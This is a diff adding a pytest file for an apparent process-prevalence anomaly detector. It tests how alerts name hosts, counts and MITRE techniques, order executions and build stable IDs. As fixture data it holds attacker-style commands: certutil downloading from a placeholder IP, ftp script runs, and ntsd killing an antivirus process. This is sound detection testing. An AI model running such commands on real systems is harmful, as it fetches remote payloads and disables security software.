@@ -1,0 +1,181 @@
+"""An incident told to a person: one sentence with both numbers, the story in order, what would make it normal."""
+
+import random
+from collections.abc import Sequence
+from datetime import timedelta
+from typing import Any
+
+import pytest
+from prevalence_tables import ACCOUNT, START, TOOL, Ran, anomaly, hosts, life, seen
+
+from longtail.prevalence.explain import MOST_CONTEXT, MOST_EXECUTIONS, Told, alert, alert_id, context_of, without_echoes
+from longtail.prevalence.findings import Alert, Severity
+from longtail.prevalence.incidents import Row
+from longtail.prevalence.judgement import judged
+from longtail.prevalence.likeness import Likeness
+from longtail.settings import Settings
+
+FTP = r"\windows\system32\ftp.exe"
+NTSD = r"\windows\system32\ntsd.exe"
+CONHOST = r"\windows\system32\conhost.exe"
+
+
+def after(seconds: float) -> dict[str, Any]:
+    return {"onset": START + timedelta(seconds=seconds)}
+
+
+def incident(rows: Sequence[Row]) -> dict[str, Any]:
+    actor = {name: rows[0][name] for name in ("tenant", "account_class", "host", "account")}
+    return {
+        **actor,
+        "incident": 1,
+        "start": min(row["onset"] for row in rows),
+        "end": max(row["onset"] for row in rows),
+        "score": 41.23456,
+    }
+
+
+def told(*rows: Row, context: Sequence[Row] = (), likenesses: dict[int, Likeness] | None = None) -> Alert:
+    return alert(Told(incident(rows), rows, context, Severity.HIGH, likenesses or {}))
+
+
+def test_the_reason_names_the_host_and_both_numbers_with_their_denominators() -> None:
+    reason = told(anomaly(FTP, hosts_with=2, days_with=1)).reason
+    assert reason == (
+        "One program lies in the tail on db00: ftp.exe was seen on 2 of 40 hosts and 1 of 10 days of this population."
+    )
+
+
+def test_the_reason_speaks_of_what_the_fewest_hosts_show() -> None:
+    reason = told(anomaly(FTP, hosts_with=9, bits=15.0), anomaly(NTSD, hosts_with=1, bits=7.0)).reason
+    assert reason.startswith("2 programs lie in the tail")
+    assert "ntsd.exe was seen on 1 of 40 hosts" in reason
+
+
+def test_the_reason_names_the_nearest_normal_thing_and_what_it_passes_for() -> None:
+    row = anomaly(FTP)
+    like = Likeness(NTSD, "its name passes for ntsd.exe")
+    assert told(row, likenesses={row["behaviour"]: like}).reason.endswith(
+        rf"; the nearest normal is {NTSD}; its name passes for ntsd.exe."
+    )
+
+
+def test_what_the_shell_carried_is_dropped_where_its_own_process_is_there() -> None:
+    carried = anomaly(FTP, "cmd /c ftp -s:So.2", hosted_by="cmd.exe", **after(0))
+    itself = anomaly(FTP, "ftp -s:So.2", **after(0.3))
+    assert without_echoes([carried, itself]) == [itself]
+    assert len(told(carried, itself).executions) == 1
+
+
+@pytest.mark.parametrize(
+    "other",
+    [
+        anomaly(NTSD, "ntsd", **after(0.3)),
+        anomaly(FTP, "ftp", **after(3600)),
+        anomaly(FTP, "cmd /c ftp x", hosted_by="cmd.exe", **after(0.3)),
+    ],
+    ids=["another program", "an hour later", "carried too"],
+)
+def test_what_the_shell_carried_stays_where_it_is_the_only_trace(other: Row) -> None:
+    carried = anomaly(FTP, "cmd /c ftp -s:So.2", hosted_by="cmd.exe", **after(0))
+    assert carried in without_echoes([carried, other])
+
+
+def test_the_story_is_in_order_of_time_with_its_context_between() -> None:
+    context = [anomaly(CONHOST, **after(5)), anomaly(CONHOST, **after(1))]
+    made = told(anomaly(FTP, **after(9)), anomaly(NTSD, **after(3)), context=context)
+    assert [each.role for each in made.executions] == ["context", "anomaly", "context", "anomaly"]
+    assert [each.time for each in made.executions] == sorted(each.time for each in made.executions)
+    assert all(each.why == () for each in made.executions if each.role == "context")
+
+
+def test_a_very_long_story_is_cut() -> None:
+    rows = [anomaly(rf"\tools\tool{number}.exe", **after(number)) for number in range(200)]
+    made = told(*rows, context=[anomaly(CONHOST, **after(number)) for number in range(50)])
+    assert len(made.executions) == MOST_EXECUTIONS + MOST_CONTEXT
+    assert "and 194 more" in made.title
+
+
+def test_the_alert_is_of_its_actor_and_names_its_techniques_once() -> None:
+    made = told(anomaly(FTP, "ftp -s:So.2"), anomaly(NTSD, "ntsd -c q -pn 360rp.exe"), anomaly(FTP, "ftp -s:b"))
+    assert (made.tenant, made.host, made.account, made.account_class) == ("contoso", "db00", ACCOUNT, "mssql")
+    assert made.techniques == ("T1105", "T1562.001")
+    assert made.title.startswith("SQL Server service account ran what its population almost never runs: ")
+    assert made.score == 41.235
+    assert made.severity is Severity.HIGH
+
+
+def test_why_tells_the_program_what_it_was_told_and_what_that_means() -> None:
+    row = anomaly(
+        FTP, "ftp -s:a", told_bits=5.0, told_kind="parent", told_by="sqlservr.exe", traits=[{"what": "m", "bits": 2.0}]
+    )
+    (execution,) = told(row).executions
+    assert execution.why == (
+        rf"{FTP} was run by this kind of account on 1 of 40 hosts and 1 of 10 days",
+        "sqlservr.exe almost never starts ftp.exe",
+        "m",
+    )
+
+
+def test_an_alerts_name_is_the_same_in_any_order_and_another_for_another_place_or_day() -> None:
+    rows = [anomaly(FTP, **after(2)), anomaly(NTSD, **after(1)), anomaly(TOOL, None, shape=None, **after(1))]
+    name = alert_id(incident(rows), rows)
+    for seed in range(5):
+        shuffled = random.Random(seed).sample(rows, k=3)
+        assert alert_id(incident(shuffled), shuffled) == name
+    for other in ({"host": "db01"}, {"tenant": "fabrikam"}, {"account": "CORP\\svc"}):
+        moved = [row | other for row in rows]
+        assert alert_id(incident(moved), moved) != name
+    later = [row | {"first_day": START.date() + timedelta(days=1)} for row in rows]
+    assert alert_id(incident(later), later) != name
+
+
+def test_the_case_of_an_account_does_not_rename_its_alert() -> None:
+    rows = [anomaly(FTP)]
+    upper = [row | {"account": ACCOUNT.upper()} for row in rows]
+    assert alert_id(incident(rows), rows) == alert_id(incident(upper), upper)
+
+
+def test_hostile_text_is_told_as_it_is() -> None:
+    made = told(anomaly("\ud800\x00\x1b[31m", "\u202e[/x] \ud800", account="a\x00", host="\n"))
+    assert len(made.id) == 16
+    assert made.executions[0].command_line == "\u202e[/x] \ud800"
+
+
+def test_no_context_is_no_context() -> None:
+    assert context_of(incident([anomaly(FTP)]), None) == []
+
+
+def attacked() -> list[Ran]:
+    fleet = hosts(14)
+    return [
+        *life(fleet),
+        Ran("db03", TOOL, (8,), minute=30),
+        Ran("db03", r"C:\Windows\System32\certutil.exe", (8,), "certutil -urlcache -f http://1.2.3.4/a a", minute=29),
+        *(Ran(name, r"C:\exports\export.exe", (day,)) for day, name in enumerate(fleet[:9])),
+    ]
+
+
+def test_every_execution_of_a_judged_fleet_says_what_would_make_it_normal() -> None:
+    found = judged(seen(attacked()), Settings(), ("all",)).alerts
+    assert found[0].host == "db03"
+    for execution in (each for every in found for each in every.executions):
+        assert execution.normal_at.hosts >= 1
+        assert execution.normal_at.days >= 1
+        assert 1 <= execution.prevalence.hosts <= execution.prevalence.of_hosts == 14
+
+
+def test_the_same_sightings_in_another_order_give_the_same_alerts() -> None:
+    sightings = seen(attacked())
+    shuffled = sightings.sample(fraction=1.0, shuffle=True, seed=3)
+    assert judged(shuffled, Settings(), ("all",)) == judged(sightings, Settings(), ("all",))
+
+
+def test_alerts_that_share_a_technique_name_each_other() -> None:
+    again = [
+        Ran("db07", TOOL, (8,), minute=30),
+        Ran("db07", r"C:\Windows\System32\certutil.exe", (8,), "certutil -urlcache -f http://1.2.3.4/b b", minute=29),
+    ]
+    found = [each for each in judged(seen([*attacked(), *again]), Settings(), ("all",)).alerts if each.techniques]
+    assert len(found) == 2
+    assert [each.similar for each in found] == [(found[1].id,), (found[0].id,)]
